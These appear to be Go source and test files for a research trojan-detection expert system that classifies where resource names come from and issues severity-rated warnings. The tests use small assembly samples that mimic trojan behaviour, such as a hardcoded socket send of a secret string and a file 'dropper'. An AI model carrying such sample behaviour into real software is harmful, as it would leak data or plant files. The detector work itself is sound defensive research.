		t.Fatal("hardcoded bind not flagged")
	}
	if rep.Violations[0].Call != "SYS_socketcall:bind" {
		t.Errorf("violation = %+v", rep.Violations[0])
	}
}

func TestHardcodedSendFlagged(t *testing.T) {
	rep := verify(t, `
.text
_start:
    mov [scargs], 3
    mov [scargs+4], secret
    mov [scargs+8], 8
    mov eax, 102
    mov ebx, 9          ; send
    mov ecx, scargs
    int 0x80
    hlt
.data
secret: .asciz "KEYDATA"
scargs: .space 12
`)
	if rep.Secure() || rep.Violations[0].Kind != HardcodedData {
		t.Fatalf("report = %s", rep)
	}
}

func TestUserNamePassedThroughRegistersOK(t *testing.T) {
	// A register copy of a runtime value stays unknown.
	rep := verify(t, `
.text
_start:
    mov ebp, [esp+4]
    mov esi, [ebp+4]
    mov ebx, esi
    mov eax, 11
    int 0x80
    hlt
`)
	if !rep.Secure() {
		t.Errorf("flagged: %s", rep)
	}
}

func TestPointerArithmeticKeepsProvenance(t *testing.T) {
	// prog+1 is still inside the image.
	rep := verify(t, `
.text
_start:
    mov ebx, prog
    add ebx, 1
    mov eax, 11
    int 0x80
    hlt
.data
prog: .asciz "//bin/ls"
`)
	if rep.Secure() {
		t.Error("adjusted hardcoded pointer not flagged")
	}
}

func TestBlockBoundaryResetsState(t *testing.T) {
	// The name is loaded in a different basic block reached by a
	// jump: the conservative analysis forgets it — no false verdict
	// either way, but crucially no crash and no spurious report of
	// the *read* path.
	rep := verify(t, `
.text
_start:
    mov ebx, prog
    jmp doit
doit:
    mov eax, 11
    int 0x80
    hlt
.data
prog: .asciz "/bin/ls"
`)
	// After the jump, EBX is unknown (sound for "safer, not safe").
	if !rep.Secure() {
		t.Errorf("cross-block tracking over-approximated: %s", rep)
	}
}

func TestCorpusTrojansAreNotSecure(t *testing.T) {
	// The Appendix B claim on real subjects: the exploit corpus is
	// full of hardcoded resource usage.
	cases := map[string]string{
		"dropper": `
.text
_start:
    mov ebx, f
    mov eax, 8
    int 0x80
    hlt
.data
f: .asciz "./Window"
`,
	}
	for name, src := range cases {
		if rep := verify(t, src); rep.Secure() {
			t.Errorf("%s passed the Secure Binary check", name)
		}
	}
}

func TestVerifyValidates(t *testing.T) {
	img := asm.MustAssemble("/bin/x", ".text\n_start: hlt\n")
	img.Entry = "missing"
	if _, err := Verify(img); err == nil {
		t.Error("invalid image accepted")
	}
}

func TestRuntimeBufferWriteNotFlagged(t *testing.T) {
	// Writing a .space buffer (filled at run time) is not hardcoded
	// data; only initialized image content counts.
	rep := verify(t, `
.text
_start:
    mov ebp, [esp+4]
    mov ebx, [ebp+4]
    mov eax, 8          ; creat(argv[1])
    int 0x80
    mov ebx, eax
    mov ecx, buf        ; a runtime buffer
    mov edx, 8
    mov eax, 4
    int 0x80
    hlt
.data
buf: .space 8
`)
	if !rep.Secure() {
		t.Errorf("runtime buffer flagged: %s", rep)
	}
}
