package secpert

import (
	"encoding/json"
	"strings"
	"testing"

	"repro/internal/events"
	"repro/internal/taint"
)

// --- History (§10 items 6 & 8) unit tests ---

func TestHistoryRecordsSessionWrites(t *testing.T) {
	hist := NewHistory()
	cfg := DefaultConfig()
	cfg.History = hist
	s := New(cfg, nil)
	s.HandleIO(writeEvent("/tmp/a", taint.File, nil, src(taint.Binary, "/bin/x")))
	s.HandleIO(writeEvent("stdout", taint.File, nil, src(taint.Binary, "/bin/x")))
	if _, ok := hist.WrittenIn("/tmp/a"); ok {
		t.Error("write visible before FinishSession")
	}
	s.FinishSession()
	if sess, ok := hist.WrittenIn("/tmp/a"); !ok || sess != 1 {
		t.Errorf("WrittenIn = %d, %v", sess, ok)
	}
	if _, ok := hist.WrittenIn("stdout"); ok {
		t.Error("stdout recorded as a written file")
	}
	if hist.Sessions() != 1 {
		t.Errorf("sessions = %d", hist.Sessions())
	}
}

func TestHistoryFirstWriterWins(t *testing.T) {
	hist := NewHistory()
	for i := 0; i < 2; i++ {
		cfg := DefaultConfig()
		cfg.History = hist
		s := New(cfg, nil)
		s.HandleIO(writeEvent("/tmp/a", taint.File, nil, src(taint.Binary, "/bin/x")))
		s.FinishSession()
	}
	if sess, _ := hist.WrittenIn("/tmp/a"); sess != 1 {
		t.Errorf("first-writer session = %d", sess)
	}
}

func TestHistoryEscalatesExecve(t *testing.T) {
	hist := NewHistory()
	hist.commit([]string{"/tmp/dropped"})
	cfg := DefaultConfig()
	cfg.History = hist
	s := New(cfg, nil)
	// A user-named execve of the recorded file must warn High even
	// though nothing is hardcoded.
	s.HandleAccess(&events.Access{
		Call: "SYS_execve", PID: 1,
		Resource: events.Ref{
			Name: "/tmp/dropped", Type: taint.File,
			Origin: []taint.Source{src(taint.UserInput, "argv")},
		},
	})
	ws := s.Warnings()
	if len(ws) != 1 || ws[0].Severity != High {
		t.Fatalf("warnings = %v", ws)
	}
	if !strings.Contains(ws[0].Message, "previous session (session 1)") {
		t.Errorf("message = %q", ws[0].Message)
	}
}

func TestHistoryApprovalSuppression(t *testing.T) {
	hist := NewHistory()
	cfg := DefaultConfig()
	cfg.History = hist
	s := New(cfg, nil)
	s.HandleAccess(execveEvent(src(taint.Binary, "/bin/e")))
	ws := s.Warnings()
	if len(ws) != 1 {
		t.Fatal("no warning to approve")
	}
	hist.Approve(&ws[0])
	if !hist.Approved(&ws[0]) {
		t.Fatal("approval not recorded")
	}

	s2 := New(cfg, nil)
	s2.HandleAccess(execveEvent(src(taint.Binary, "/bin/e")))
	if len(s2.Warnings()) != 0 || s2.Suppressed() != 1 {
		t.Errorf("warnings = %v, suppressed = %d", s2.Warnings(), s2.Suppressed())
	}
	// A *different* warning still fires.
	s2.HandleAccess(&events.Access{
		Call: "SYS_execve", PID: 1,
		Resource: events.Ref{Name: "/bin/other", Type: taint.File,
			Origin: []taint.Source{src(taint.Binary, "/bin/e")}},
	})
	if len(s2.Warnings()) != 1 {
		t.Error("different warning also suppressed")
	}
}

func TestFinishSessionWithoutHistory(t *testing.T) {
	s := newSecpert()
	s.HandleIO(writeEvent("/f", taint.File, nil, src(taint.Binary, "/b")))
	s.FinishSession() // must not panic
}

// --- Memory abuse (§10 item 4) ---

func brkEvent(mem int64) *events.Access {
	return &events.Access{Call: "SYS_brk", PID: 1, Time: 10, MemBytes: mem}
}

func TestMemoryAbuseThresholds(t *testing.T) {
	cfg := DefaultConfig()
	cfg.EnableMemoryAbuse = true
	s := New(cfg, nil)
	s.HandleAccess(brkEvent(cfg.MemHighBytes - 1))
	if len(s.Warnings()) != 0 {
		t.Fatal("warned below threshold")
	}
	s.HandleAccess(brkEvent(cfg.MemHighBytes))
	if ws := s.Warnings(); len(ws) != 1 || ws[0].Severity != Low {
		t.Fatalf("warnings = %v", ws)
	}
	// Dedupe at the Low tier.
	s.HandleAccess(brkEvent(cfg.MemHighBytes + 5))
	if len(s.Warnings()) != 1 {
		t.Fatal("Low memory warning repeated")
	}
	// The Medium tier fires once more.
	s.HandleAccess(brkEvent(cfg.MemVeryHighBytes))
	ws := s.Warnings()
	if len(ws) != 2 || ws[1].Severity != Medium {
		t.Fatalf("warnings = %v", ws)
	}
}

func TestMemoryAbuseDisabled(t *testing.T) {
	s := newSecpert()
	s.HandleAccess(brkEvent(1 << 30))
	if len(s.Warnings()) != 0 {
		t.Error("memory rule ran while disabled")
	}
}

// --- Content analysis (§10 item 5) ---

func TestClassifyContent(t *testing.T) {
	cases := []struct {
		head string
		kind string
		exec bool
	}{
		{"\x7fELF\x02\x01", "ELF binary", true},
		{"#!/bin/sh", "script with interpreter line", true},
		{"MZ\x90", "PE binary", true},
		{"hello", "", false},
		{"", "", false},
	}
	for _, tc := range cases {
		kind, exec := classifyContent(tc.head)
		if kind != tc.kind || exec != tc.exec {
			t.Errorf("classifyContent(%q) = %q, %v", tc.head, kind, exec)
		}
	}
}

func TestContentAnalysisUnitLevel(t *testing.T) {
	cfg := DefaultConfig()
	cfg.EnableContentAnalysis = true
	s := New(cfg, nil)
	// Register the socket with a user origin so the base severity is
	// Low, then drop executable content to a user-named file.
	s.HandleAccess(&events.Access{
		Call: "SYS_socketcall:connect", PID: 1,
		Resource: events.Ref{Name: "dl:80", Type: taint.Socket,
			Origin: []taint.Source{src(taint.UserInput, "argv")}},
	})
	ev := writeEvent("out.bin", taint.File,
		[]taint.Source{src(taint.Binary, "/bin/dl")},
		src(taint.Socket, "dl:80"))
	ev.Head = []byte("\x7fELF\x01\x01")
	s.HandleIO(ev)
	ws := s.Warnings()
	if len(ws) != 1 || ws[0].Severity != High {
		t.Fatalf("warnings = %v", ws)
	}
	if !strings.Contains(ws[0].Message, "appears to be executable (ELF binary)") {
		t.Errorf("message = %q", ws[0].Message)
	}
}

// --- Misc helpers ---

func TestMergeSources(t *testing.T) {
	a := []taint.Source{src(taint.Binary, "/a")}
	b := []taint.Source{src(taint.Binary, "/a"), src(taint.UserInput, "argv")}
	got := mergeSources(a, b)
	if len(got) != 2 {
		t.Errorf("merge = %v", got)
	}
	if got2 := mergeSources(nil, b); len(got2) != 2 {
		t.Errorf("merge from nil = %v", got2)
	}
	// The merge does not mutate its first argument's backing array
	// visible range.
	if len(a) != 1 {
		t.Error("merge mutated input")
	}
}

func TestOriginsAccumulate(t *testing.T) {
	s := newSecpert()
	openFile(s, "/shared", src(taint.Binary, "/bin/a"))
	openFile(s, "/shared", src(taint.UserInput, "argv"))
	got := s.OriginOf("/shared")
	if len(got) != 2 {
		t.Errorf("origins = %v", got)
	}
}

func TestWarningJSON(t *testing.T) {
	w := Warning{Severity: High, Category: InformationFlow, Rule: "check_write",
		Message: "m", PID: 3, Time: 9}
	data, err := json.Marshal(w)
	if err != nil {
		t.Fatal(err)
	}
	s := string(data)
	for _, want := range []string{`"severity":"HIGH"`, `"category":"information-flow"`, `"rule":"check_write"`} {
		if !strings.Contains(s, want) {
			t.Errorf("json = %s missing %s", s, want)
		}
	}
}

func TestServerContextUserAddress(t *testing.T) {
	s := newSecpert()
	openFile(s, "data.txt", src(taint.Binary, "/bin/d"))
	ev := writeEvent("peer:9", taint.Socket, nil, src(taint.File, "data.txt"))
	ev.Server = true
	ev.ServerAddr = "0.0.0.0:80"
	ev.ServerOrigin = []taint.Source{src(taint.UserInput, "argv")}
	s.HandleIO(ev)
	ws := s.Warnings()
	if len(ws) != 1 {
		t.Fatalf("warnings = %v", ws)
	}
	if !strings.Contains(ws[0].Message, "the server address was given by the user") {
		t.Errorf("message = %q", ws[0].Message)
	}
}

func TestConfigFromJSON(t *testing.T) {
	cfg, err := ConfigFromJSON([]byte(`{
		"TrustedBinaries": ["libc.so"],
		"RareFrequency": 10,
		"EnableMemoryAbuse": true
	}`))
	if err != nil {
		t.Fatal(err)
	}
	if len(cfg.TrustedBinaries) != 1 || cfg.RareFrequency != 10 || !cfg.EnableMemoryAbuse {
		t.Errorf("cfg = %+v", cfg)
	}
	// Unset fields keep their defaults.
	if cfg.CloneCountHigh != DefaultConfig().CloneCountHigh {
		t.Error("defaults lost")
	}
	if _, err := ConfigFromJSON([]byte("{bad")); err == nil {
		t.Error("bad JSON accepted")
	}
}
