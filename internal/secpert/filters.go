package secpert

import (
	"repro/internal/taint"
)

// originClass is the policy's classification of where a resource
// *name* came from (paper Table 2's resource ID data source).
type originClass int

// Name-origin classes, in increasing suspicion order for display;
// classification priority is Remote > Hardcoded > User > Unknown.
const (
	originUnknown originClass = iota
	originUser
	originHardcoded
	originRemote
)

func (c originClass) String() string {
	switch c {
	case originUser:
		return "user"
	case originHardcoded:
		return "hardcoded"
	case originRemote:
		return "remote"
	}
	return "unknown"
}

// trustedBinary reports whether the image is in the trusted set
// (libc.so, ld-linux.so by default; paper Appendix A.2).
func (s *Secpert) trustedBinary(name string) bool {
	for _, t := range s.cfg.TrustedBinaries {
		if t == name {
			return true
		}
	}
	return false
}

func (s *Secpert) trustedSocket(name string) bool {
	for _, t := range s.cfg.TrustedSockets {
		if t == name {
			return true
		}
	}
	return false
}

// filterBinary returns the names of untrusted BINARY sources — the
// filter_binary function of the paper's CLIPS rule (Appendix A.2).
func (s *Secpert) filterBinary(srcs []taint.Source) []string {
	var out []string
	for _, src := range srcs {
		if src.Type == taint.Binary && !s.trustedBinary(src.Name) {
			out = append(out, src.Name)
		}
	}
	return out
}

// filterSocket returns the names of untrusted SOCKET sources — the
// filter_socket function of the paper's CLIPS rule.
func (s *Secpert) filterSocket(srcs []taint.Source) []string {
	var out []string
	for _, src := range srcs {
		if src.Type == taint.Socket && !s.trustedSocket(src.Name) {
			out = append(out, src.Name)
		}
	}
	return out
}

func namesOfType(srcs []taint.Source, t taint.SourceType) []string {
	var out []string
	for _, src := range srcs {
		if src.Type == t {
			out = append(out, src.Name)
		}
	}
	return out
}

func hasType(srcs []taint.Source, t taint.SourceType) bool {
	for _, src := range srcs {
		if src.Type == t {
			return true
		}
	}
	return false
}

// classifyOrigin reduces a name's source set to its class and the
// supporting resource names. Remote beats hardcoded beats user: a
// name assembled from a hardcoded host and a user port counts as
// hardcoded (paper §8.3.6: "it is hardcoded because we use LocalHost,
// the port is given by the user").
func (s *Secpert) classifyOrigin(srcs []taint.Source) (originClass, []string) {
	if socks := s.filterSocket(srcs); len(socks) > 0 {
		return originRemote, socks
	}
	if bins := s.filterBinary(srcs); len(bins) > 0 {
		return originHardcoded, bins
	}
	if users := namesOfType(srcs, taint.UserInput); len(users) > 0 {
		return originUser, users
	}
	return originUnknown, nil
}

// isRare applies the code-frequency reinforcement of §4.1: the
// triggering basic block ran fewer than RareFrequency times although
// the program has been running for at least LongTime ticks.
func (s *Secpert) isRare(freq, time int64) bool {
	if s.cfg.DisableFrequency {
		return false
	}
	return freq > 0 && freq < s.cfg.RareFrequency && time > s.cfg.LongTime
}
