// Package secpert implements Secpert, the HTH security expert system
// (paper §6): the policy of §4 expressed as production rules over the
// events Harrier reports, evaluated by the CLIPS-style engine in
// internal/expert. Every warning carries a severity (Low / Medium /
// High — §4's confidence labels), a paper-style message, and the fire
// trace that justifies it.
package secpert

import (
	"encoding/json"
	"fmt"
	"io"
	"strings"

	"repro/internal/events"
	"repro/internal/expert"
	"repro/internal/obs"
	"repro/internal/taint"
)

// Severity is the confidence label of a warning (paper §4).
type Severity int

// Severities, ordered.
const (
	Low Severity = iota
	Medium
	High
)

// String renders the label as the paper prints it.
func (s Severity) String() string {
	switch s {
	case Low:
		return "LOW"
	case Medium:
		return "MEDIUM"
	case High:
		return "HIGH"
	}
	return "?"
}

// Category groups rules as in §4.
type Category int

// Rule categories.
const (
	ExecutionFlow Category = iota
	ResourceAbuse
	InformationFlow
)

// String names the category.
func (c Category) String() string {
	switch c {
	case ExecutionFlow:
		return "execution-flow"
	case ResourceAbuse:
		return "resource-abuse"
	case InformationFlow:
		return "information-flow"
	}
	return "?"
}

// Warning is one policy alert.
type Warning struct {
	Severity Severity `json:"severity"`
	Category Category `json:"category"`
	Rule     string   `json:"rule"`
	Message  string   `json:"message"` // paper-style multi-line text
	PID      int      `json:"pid"`
	Time     uint64   `json:"time"`
	FactIDs  []int    `json:"fact_ids,omitempty"`
	// Chain holds the causal provenance chains of the taint sources
	// behind this warning — one rendered chain per source, ending at
	// the exit that fired the rule. Filled only when a chain resolver
	// is installed (SetChainResolver, i.e. provenance tracing is on);
	// otherwise nil, so default-config output is unchanged.
	Chain []string `json:"chain,omitempty"`
}

// MarshalJSON renders the severity as its label.
func (s Severity) MarshalJSON() ([]byte, error) {
	return []byte(fmt.Sprintf("%q", s.String())), nil
}

// MarshalJSON renders the category as its label.
func (c Category) MarshalJSON() ([]byte, error) {
	return []byte(fmt.Sprintf("%q", c.String())), nil
}

// String renders the warning as the paper does.
func (w Warning) String() string {
	return fmt.Sprintf("Warning [%s] %s", w.Severity, w.Message)
}

// Decision is the advisor's answer to a warning: the user's choice to
// continue or kill the application (paper §4).
type Decision int

// Decisions.
const (
	Proceed Decision = iota
	Terminate
)

// Advisor models the user consulted on each warning.
type Advisor interface {
	Advise(w *Warning) Decision
}

// AdvisorFunc adapts a function to Advisor.
type AdvisorFunc func(w *Warning) Decision

// Advise implements Advisor.
func (f AdvisorFunc) Advise(w *Warning) Decision { return f(w) }

// ContinueAlways proceeds past every warning (the evaluation mode the
// paper uses: "if we allow HTH to continue...").
func ContinueAlways() Advisor {
	return AdvisorFunc(func(*Warning) Decision { return Proceed })
}

// KillAtOrAbove terminates the guest on warnings at or above the
// given severity.
func KillAtOrAbove(min Severity) Advisor {
	return AdvisorFunc(func(w *Warning) Decision {
		if w.Severity >= min {
			return Terminate
		}
		return Proceed
	})
}

// Config tunes the policy.
type Config struct {
	// TrustedBinaries are shared objects whose hardcoded data is not
	// suspicious (paper §A.2: "In our prototype we trust the libc and
	// ld-linux shared objects").
	TrustedBinaries []string
	// TrustedSockets are socket addresses treated as benign origins.
	// Empty by default ("We do not trust any sockets although our
	// implementation does support this").
	TrustedSockets []string

	// RareFrequency: a basic block executed fewer than this many
	// times counts as rare (§4.1 code-frequency reinforcement).
	RareFrequency int64
	// LongTime: the program must have run at least this many virtual
	// ticks for rarity to matter ("program started a while ago").
	LongTime int64

	// CloneCountHigh triggers the Low resource-abuse warning (§4.2).
	CloneCountHigh int64
	// CloneRateHigh triggers the Medium resource-abuse warning: this
	// many clones inside the monitor's rate window.
	CloneRateHigh int64

	// DisableInfoFlow turns off the information-flow rules (used by
	// the mw macro benchmark, §8.4.2, and the ablation benches).
	DisableInfoFlow bool
	// DisableFrequency ignores code-frequency reinforcement.
	DisableFrequency bool

	// History, when set, enables the cross-session extensions (paper
	// §10 items 6 and 8): executing a file written by a previous
	// monitored session escalates to High, and warnings the user
	// approved before are suppressed. Call Secpert.FinishSession at
	// the end of each run. (Not serializable: configure in code.)
	History *History `json:"-"`

	// EnableMemoryAbuse activates the memory-abuse rules (paper §10
	// item 4): heap growth beyond MemHighBytes warns Low; beyond
	// MemVeryHighBytes warns Medium.
	EnableMemoryAbuse bool
	MemHighBytes      int64
	MemVeryHighBytes  int64

	// EnableContentAnalysis activates downloaded-content typing
	// (paper §10 item 5): socket-sourced data that looks executable
	// being written to a file escalates the finding and explains why.
	EnableContentAnalysis bool
}

// ConfigFromJSON overlays JSON policy settings onto the defaults, so
// a policy file only needs the fields it changes:
//
//	{"TrustedBinaries": ["libc.so"], "RareFrequency": 5,
//	 "EnableMemoryAbuse": true}
func ConfigFromJSON(data []byte) (Config, error) {
	cfg := DefaultConfig()
	if err := json.Unmarshal(data, &cfg); err != nil {
		return Config{}, fmt.Errorf("secpert: policy file: %w", err)
	}
	return cfg, nil
}

// DefaultConfig mirrors the paper's prototype settings.
func DefaultConfig() Config {
	return Config{
		TrustedBinaries:  []string{"libc.so", "ld-linux.so"},
		RareFrequency:    3,
		LongTime:         20_000,
		CloneCountHigh:   8,
		CloneRateHigh:    8,
		MemHighBytes:     1 << 20,
		MemVeryHighBytes: 16 << 20,
	}
}

// Secpert is the security expert system instance for one monitored
// program run.
type Secpert struct {
	cfg     Config
	eng     *expert.Engine
	advisor Advisor

	warnings []Warning
	pending  Decision

	// origins remembers the name-provenance of every resource the
	// program has accessed (paper §7.1: open/close tracking "allows
	// us to find the data source of the resource id").
	origins map[string][]taint.Source

	// once dedupes the resource-abuse warnings, which would otherwise
	// repeat on every clone past the threshold.
	once map[string]bool

	// sessionWrites collects file paths written this session, for
	// History.commit.
	sessionWrites []string
	suppressed    int

	bus *obs.Bus

	// chains resolves taint sources to rendered provenance chains
	// (SetChainResolver). curSources/curDesc describe the event being
	// evaluated, so warn() can attach causality even for rules whose
	// trigger carries no taint (e.g. clone flooding).
	chains     func([]taint.Source) []string
	curSources []taint.Source
	curDesc    string
}

// New builds a Secpert with the given policy configuration.
func New(cfg Config, advisor Advisor) *Secpert {
	if advisor == nil {
		advisor = ContinueAlways()
	}
	s := &Secpert{
		cfg:     cfg,
		eng:     expert.NewEngine(),
		advisor: advisor,
		origins: make(map[string][]taint.Source),
		once:    make(map[string]bool),
	}
	s.defineTemplates()
	s.defineRules()
	return s
}

// SetOutput directs the engine's CLIPS-style fire trace and rule
// printout to w.
func (s *Secpert) SetOutput(w io.Writer) { s.eng.Out = w }

// SetAssertEcho additionally echoes every asserted event fact in the
// CLIPS transcript style of the paper's Appendix A.1
// ("CLIPS> (assert (system_call_access ...))").
func (s *Secpert) SetAssertEcho(w io.Writer) { s.eng.Echo = w }

// SetBus attaches the observability bus: every rule firing publishes a
// rule.fire event and every warning a warning event. A nil bus
// detaches both.
func (s *Secpert) SetBus(b *obs.Bus) {
	s.bus = b
	if b == nil {
		s.eng.OnFire = nil
		return
	}
	s.eng.OnFire = func(rec expert.FireRecord) {
		b.Publish(obs.Event{
			Layer: obs.LayerSecpert, Kind: obs.KindRuleFire,
			Num: uint64(rec.Seq), Str: rec.Rule,
		})
	}
}

// SetChainResolver installs the provenance chain resolver consulted at
// warning time (typically Harrier.ProvenanceChains). A nil resolver
// detaches it and warnings stop carrying chains.
func (s *Secpert) SetChainResolver(fn func([]taint.Source) []string) { s.chains = fn }

// Engine exposes the underlying expert engine (for extension rules).
func (s *Secpert) Engine() *expert.Engine { return s.eng }

// Config returns the active configuration.
func (s *Secpert) Config() Config { return s.cfg }

// Warnings returns all warnings issued so far.
func (s *Secpert) Warnings() []Warning { return s.warnings }

// Trace returns the engine fire trace.
func (s *Secpert) Trace() []expert.FireRecord { return s.eng.Trace() }

// WarningsAt returns the warnings with exactly the given severity.
func (s *Secpert) WarningsAt(sev Severity) []Warning {
	var out []Warning
	for _, w := range s.warnings {
		if w.Severity == sev {
			out = append(out, w)
		}
	}
	return out
}

// MaxSeverity returns the highest severity seen and whether any
// warning was issued at all.
func (s *Secpert) MaxSeverity() (Severity, bool) {
	if len(s.warnings) == 0 {
		return Low, false
	}
	max := Low
	for _, w := range s.warnings {
		if w.Severity > max {
			max = w.Severity
		}
	}
	return max, true
}

// HandleAccess analyzes a resource-access event, returning the
// verdict while the guest is paused.
func (s *Secpert) HandleAccess(ev *events.Access) Decision {
	// Remember the resource's name provenance for later data-flow
	// classification (Table 2). Provenance accumulates: when several
	// monitored programs touch the same resource (simultaneous
	// sessions, §10 item 7), all observed origins count.
	if ev.Resource.Name != "" {
		s.origins[ev.Resource.Name] = mergeSources(s.origins[ev.Resource.Name], ev.Resource.Origin)
	}
	if s.chains != nil {
		s.curSources = ev.Resource.Origin
		s.curDesc = eventDesc(ev.Call, ev.Resource.Name, ev.PID, ev.Time)
	}
	s.pending = Proceed
	f, err := s.eng.Assert("system_call_access", accessSlots(ev))
	if err != nil {
		panic(fmt.Sprintf("secpert: internal: %v", err))
	}
	s.eng.Run(0)
	s.eng.Retract(f.ID)
	return s.pending
}

// HandleIO analyzes a data-transfer event.
func (s *Secpert) HandleIO(ev *events.IO) Decision {
	if ev.Dir == events.Write && ev.Resource.Type == taint.File &&
		ev.Resource.Name != "stdout" && ev.Resource.Name != "stderr" {
		s.sessionWrites = append(s.sessionWrites, ev.Resource.Name)
	}
	if s.chains != nil {
		s.curSources = mergeSources(ev.Data, ev.Resource.Origin)
		s.curDesc = eventDesc(ev.Call, ev.Resource.Name, ev.PID, ev.Time)
	}
	s.pending = Proceed
	f, err := s.eng.Assert("system_call_io", ioSlots(ev))
	if err != nil {
		panic(fmt.Sprintf("secpert: internal: %v", err))
	}
	s.eng.Run(0)
	s.eng.Retract(f.ID)
	return s.pending
}

// OriginOf reports the recorded name-provenance of a resource.
func (s *Secpert) OriginOf(name string) []taint.Source { return s.origins[name] }

// warn records a warning, prints it CLIPS-style, and consults the
// advisor.
func (s *Secpert) warn(ctx *expert.Context, cat Category, sev Severity, pid int, t uint64, msg string) {
	w := Warning{
		Severity: sev,
		Category: cat,
		Rule:     ctx.Rule.Name,
		Message:  msg,
		PID:      pid,
		Time:     t,
		FactIDs:  append([]int(nil), ctx.IDs...),
	}
	if s.chains != nil {
		w.Chain = s.chains(s.curSources)
		if len(w.Chain) == 0 {
			// No taint source behind the trigger (e.g. clone
			// flooding): the event itself is the whole chain.
			w.Chain = []string{s.curDesc}
		}
	}
	if s.cfg.History != nil && s.cfg.History.Approved(&w) {
		// The user allowed an identical warning in a previous
		// session: adaptive suppression (§10 item 8).
		s.suppressed++
		return
	}
	s.warnings = append(s.warnings, w)
	if s.bus != nil {
		s.bus.Publish(obs.Event{
			Time: t, Layer: obs.LayerSecpert, Kind: obs.KindWarning,
			PID: int32(pid), Num: uint64(sev), Str: w.Rule, Str2: msg,
		})
	}
	ctx.Printf("Warning [%s] %s\n", sev, msg)
	if s.advisor.Advise(&w) == Terminate {
		s.pending = Terminate
	}
}

// sourceLists converts sources into the parallel (types, names)
// multifields used in facts.
func sourceLists(srcs []taint.Source) (types, names []expert.Value) {
	types = make([]expert.Value, len(srcs))
	names = make([]expert.Value, len(srcs))
	for i, src := range srcs {
		types[i] = src.Type.String()
		names[i] = src.Name
	}
	return types, names
}

// listsToSources is the inverse of sourceLists, used by rule actions.
func listsToSources(types, names []expert.Value) []taint.Source {
	n := len(types)
	if len(names) < n {
		n = len(names)
	}
	out := make([]taint.Source, 0, n)
	for i := 0; i < n; i++ {
		tn, _ := types[i].(string)
		nm, _ := names[i].(string)
		out = append(out, taint.Source{Type: typeByName(tn), Name: nm})
	}
	return out
}

func typeByName(name string) taint.SourceType {
	for _, t := range []taint.SourceType{
		taint.UserInput, taint.File, taint.Socket, taint.Binary,
		taint.Hardware, taint.Unknown,
	} {
		if t.String() == name {
			return t
		}
	}
	return taint.None
}

// mergeSources unions two source sets, preserving canonical order via
// simple append-and-dedup (sets here are tiny).
func mergeSources(a, b []taint.Source) []taint.Source {
	if len(a) == 0 {
		return b
	}
	out := append([]taint.Source(nil), a...)
	for _, src := range b {
		dup := false
		for _, have := range out {
			if have == src {
				dup = true
				break
			}
		}
		if !dup {
			out = append(out, src)
		}
	}
	return out
}

// eventDesc renders the event under evaluation as a one-line fallback
// chain element.
func eventDesc(call, name string, pid int, t uint64) string {
	if name != "" {
		return fmt.Sprintf("%s %q (pid %d) @t=%d", call, name, pid, t)
	}
	return fmt.Sprintf("%s (pid %d) @t=%d", call, pid, t)
}

func quoteList(names []string) string {
	parts := make([]string, len(names))
	for i, n := range names {
		parts[i] = fmt.Sprintf("%q", n)
	}
	return "(" + strings.Join(parts, " ") + ")"
}
